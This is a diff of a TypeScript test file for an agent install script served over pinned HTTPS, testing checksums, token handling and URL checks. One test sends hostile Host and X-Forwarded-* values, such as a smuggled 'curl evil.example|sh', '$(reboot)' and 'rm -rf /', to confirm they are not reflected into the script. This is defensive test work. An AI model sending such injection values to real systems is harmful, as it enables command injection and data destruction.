@@ -1,34 +1,37 @@
 import { existsSync, readFileSync, rmSync, statSync, writeFileSync, mkdirSync } from "node:fs";
-import { createServer, request, type Server } from "node:http";
-import type { AddressInfo } from "node:net";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startTestController, type TestController } from "../support/controller";
+import { rawGet } from "../support/https-get";
 import { run, scratch, SCRIPT, seedHost, sha256, snapshot, writeFakeAgent } from "./install-support";
 
 const hasSystemdAnalyze = existsSync("/usr/bin/systemd-analyze") || existsSync("/bin/systemd-analyze");
 if (!hasSystemdAnalyze) console.warn("systemd-analyze not found: the unit file is checked by content only");
 
 /**
- * The install script end to end: served by a real controller (mTLS mode, so the
- * script carries the CA pin and enrolls), piped into dash as an admin would,
- * installing into a scratch root. The controller serves a small fake agent
- * (see install-support.ts); install-real-binary.test.ts installs the real one.
+ * The install script end to end: served by a real controller over HTTPS (mTLS mode,
+ * so the script carries the CA pin and enrolls), fetched with the listener's key pin
+ * and piped into dash as an admin would, installing into a scratch root. The
+ * controller serves a small fake agent (see install-support.ts);
+ * install-real-binary.test.ts installs the real one.
  */
 describe("install script served by the controller", () => {
   let ctl: TestController;
   let dir: string;
   let binary: string;
+  let pin: string;
   const log = () => join(dir, "enroll.log");
 
-  const pipeInstall = (root: string, args: string[], url = ctl.httpUrl) =>
-    run("sh", ["-c", 'url=$1; shift; curl -fsSL "$url/install.sh" | dash -s -- "$@"', "sh", url, "--root", root, ...args], { env: { FAKE_AGENT_LOG: log() } });
+  // The line install-command prints, minus sudo: curl pinned to the controller's HTTPS key.
+  const pipeInstall = (root: string, args: string[], env: Record<string, string> = {}) =>
+    run("sh", ["-c", 'url=$1; pin=$2; shift 2; curl -fsSLk --pinnedpubkey "$pin" "$url/install.sh" | dash -s -- "$@"', "sh", ctl.httpUrl, pin, "--root", root, ...args], { env: { FAKE_AGENT_LOG: log(), ...env } });
 
   beforeAll(async () => {
     dir = scratch("vigil-install-");
     binary = join(dir, "vigil-agent");
     writeFakeAgent(binary, "1.0.0-fake");
-    ctl = await startTestController({ mtls: true, env: { VIGIL_AGENT_BINARY: binary } });
+    ctl = await startTestController({ mtls: true, https: true, env: { VIGIL_AGENT_BINARY: binary } });
+    pin = ctl.httpTls!.pin();
   });
   afterAll(async () => {
     await ctl?.dispose();
@@ -39,36 +42,40 @@ describe("install script served by the controller", () => {
     for (const shell of ["sh", "dash"]) expect(await run(shell, ["-n", SCRIPT])).toMatchObject({ code: 0, stderr: "" });
   });
 
-  it("serves the script, the binary and its checksum without an API key", async () => {
+  it("serves the script (with both pins), the binary and its checksum over HTTPS without an API key", async () => {
+    expect(ctl.httpUrl).toMatch(/^https:\/\/127\.0\.0\.1:\d+$/);
     const script = await ctl.get("/install.sh", null);
     expect(script.status).toBe(200);
     expect(script.body).toContain(`VIGIL_URL_DEFAULT='${ctl.httpUrl}'`);
     expect(script.body).toContain(`VIGIL_CONTROLLER_DEFAULT='127.0.0.1:${ctl.grpcPort}'`);
     expect(script.body).toContain(`VIGIL_CA_PIN_DEFAULT='${ctl.security.trust.ca.fingerprint}'`);
+    expect(script.body).toContain(`VIGIL_TLS_PIN_DEFAULT='${pin}'`);
+    expect(pin).toMatch(/^sha256\/\/[A-Za-z0-9+/]{43}=$/);
     expect(script.body).toContain(`VIGIL_ENROLL_DEFAULT='yes'`);
-    const bin = await fetch(`${ctl.httpUrl}/api/v1/agent/binary`);
-    const bytes = Buffer.from(await bin.arrayBuffer());
+    const bin = await rawGet(`${ctl.httpUrl}/api/v1/agent/binary`, { ca: ctl.security.trust.ca.certPem });
     expect(bin.status).toBe(200);
-    expect(bytes.equals(readFileSync(binary))).toBe(true);
-    expect(bin.headers.get("x-vigil-sha256")).toBe(sha256(bytes));
-    expect((await ctl.get("/api/v1/agent/binary.sha256", null)).body).toBe(`${sha256(bytes)}  vigil-agent\n`);
+    expect(bin.body.equals(readFileSync(binary))).toBe(true);
+    expect(bin.headers["x-vigil-sha256"]).toBe(sha256(bin.body));
+    expect((await ctl.get("/api/v1/agent/binary.sha256", null)).body).toBe(`${sha256(bin.body)}  vigil-agent\n`);
     // Everything else still wants a key.
     expect((await ctl.get("/api/v1/agents", null)).status).toBe(401);
   });
 
-  it("refuses a Host header that could inject into the script", async () => {
-    // fetch() will not send a custom Host; node:http will.
-    const status = (host: string) =>
-      new Promise<number>((ok, fail) => {
-        const u = new URL(ctl.httpUrl);
-        request({ host: u.hostname, port: u.port, path: "/install.sh", headers: { host } }, (res) => {
-          res.resume();
-          ok(res.statusCode ?? 0);
-        }).on("error", fail).end();
-      });
-    expect(await status("x';rm -rf /;'")).toBe(400);
-    expect(await status("$(reboot):80")).toBe(400);
-    expect(await status("vigil.example.com:8080")).toBe(200);
+  it("never reflects request headers into the script: a hostile Host or X-Forwarded-* changes nothing", async () => {
+    const get = (headers: Record<string, string>) => rawGet(`${ctl.httpUrl}/install.sh`, { ca: ctl.security.trust.ca.certPem, headers });
+    const baseline = await get({});
+    expect(baseline.status).toBe(200);
+    for (const headers of [
+      { host: "evil.example:443", "x-forwarded-proto": "http", "x-forwarded-host": "evil.example" },
+      { host: "x';curl evil.example|sh;'", "x-forwarded-proto": "https" },
+      { host: "$(reboot):80", "x-forwarded-proto": "'$(id)'", "x-forwarded-for": "203.0.113.9" },
+      { host: "`touch /tmp/pwned`", "x-forwarded-proto": "http; rm -rf /" },
+    ]) {
+      const r = await get(headers);
+      expect(r.status, JSON.stringify(headers)).toBe(200);
+      expect(r.body.equals(baseline.body), JSON.stringify(headers)).toBe(true);
+    }
+    expect(baseline.body.toString()).not.toMatch(/evil|reboot|pwned/);
   });
 
   it("installs, enrolls, upgrades in place and uninstalls exactly what it added", async () => {
@@ -77,10 +84,14 @@ describe("install script served by the controller", () => {
     const before = snapshot(root);
     const { token } = await ctl.security.trust.tokens.create({ ttlMs: 600_000, uses: 1, tags: [], createdBy: "test" });
 
-    // Fresh install.
-    const first = await pipeInstall(root, ["--token", token, "--tags", "web, prod"]);
+    // Fresh install; the token comes from a root-only file, never a command line.
+    const tokenFile = join(dir, "vigil-token");
+    writeFileSync(tokenFile, token + "\n", { mode: 0o600 });
+    const first = await pipeInstall(root, ["--token-file", tokenFile, "--tags", "web, prod"]);
     expect(first.code, first.stderr + first.stdout).toBe(0);
     expect(first.stdout).toContain("systemctl was not run");
+    expect(first.stdout).toContain("(TLS key pinned)");
+    expect(first.stderr).not.toContain("--token puts the token on a command line");
     const bin = join(root, "usr/local/bin/vigil-agent");
     expect(readFileSync(bin).equals(readFileSync(binary))).toBe(true);
     expect(statSync(bin).mode & 0o777).toBe(0o755);
@@ -166,29 +177,20 @@ describe("install script served by the controller", () => {
     rmSync(root, { recursive: true, force: true });
   });
 
-  it("refuses a tampered binary and installs nothing", async () => {
-    // A man in the middle that serves the controller's checksum but alters the binary.
-    const proxy: Server = createServer((req, res) => {
-      void (async () => {
-        const up = await fetch(ctl.httpUrl + (req.url ?? "/"));
-        let body = Buffer.from(await up.arrayBuffer());
-        if (req.url === "/api/v1/agent/binary") body = Buffer.concat([body, Buffer.from("\n# injected\n")]);
-        res.writeHead(up.status, { "content-type": up.headers.get("content-type") ?? "application/octet-stream" });
-        res.end(body);
-      })().catch(() => res.destroy());
-    });
-    await new Promise<void>((r) => proxy.listen(0, "127.0.0.1", r));
-    const url = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
-    try {
-      const root = scratch("vigil-root-");
-      const res = await run("sh", ["-c", 'curl -fsSL "$1/install.sh" | dash -s -- --root "$2" --url "$1" --no-enroll', "sh", url, root]);
-      expect(res.code).toBe(1);
-      expect(res.stderr).toMatch(/checksum mismatch.*refusing to install/);
-      expect(snapshot(root)).toEqual({});
-      rmSync(root, { recursive: true, force: true });
-    } finally {
-      await new Promise((r) => proxy.close(r));
-    }
+  it("warns when the token is given on the command line, and still works", async () => {
+    const root = scratch("vigil-root-");
+    const { token } = await ctl.security.trust.tokens.create({ ttlMs: 600_000, uses: 1, tags: [], createdBy: "test" });
+    const r = await pipeInstall(root, ["--token", token]);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stderr).toContain("--token puts the token on a command line");
+    rmSync(root, { recursive: true, force: true });
+    // And from the environment, as `VIGIL_ENROLL_TOKEN=… sh` passes it.
+    const root2 = scratch("vigil-root-");
+    const t2 = (await ctl.security.trust.tokens.create({ ttlMs: 600_000, uses: 1, tags: [], createdBy: "test" })).token;
+    const e = await pipeInstall(root2, [], { VIGIL_ENROLL_TOKEN: t2 });
+    expect(e.code, e.stderr).toBe(0);
+    expect(readFileSync(log(), "utf8")).toContain(`token=${t2}`);
+    rmSync(root2, { recursive: true, force: true });
   });
 
   it("works offline with a local binary, checking --sha256 when given", async () => {
@@ -208,6 +210,7 @@ describe("install script served by the controller", () => {
     const root = scratch("vigil-root-");
     expect(await run("dash", [SCRIPT, "--root", root, "--bogus"])).toMatchObject({ code: 1, stderr: expect.stringContaining("unknown option: --bogus") });
     expect(await run("dash", [SCRIPT, "--root", root, "--no-enroll"])).toMatchObject({ code: 1, stderr: expect.stringContaining("no controller URL") });
+    expect(await run("dash", [SCRIPT, "--root", root, "--no-enroll", "--url", "ftp://x"])).toMatchObject({ code: 1, stderr: expect.stringContaining("--url must be https://") });
     // Enrollment needs a token.
     const r = await run("dash", [SCRIPT, "--root", root, "--binary", binary, "--controller", "a:1"]);
     expect(r).toMatchObject({ code: 1, stderr: expect.stringContaining("an enrollment token is required") });
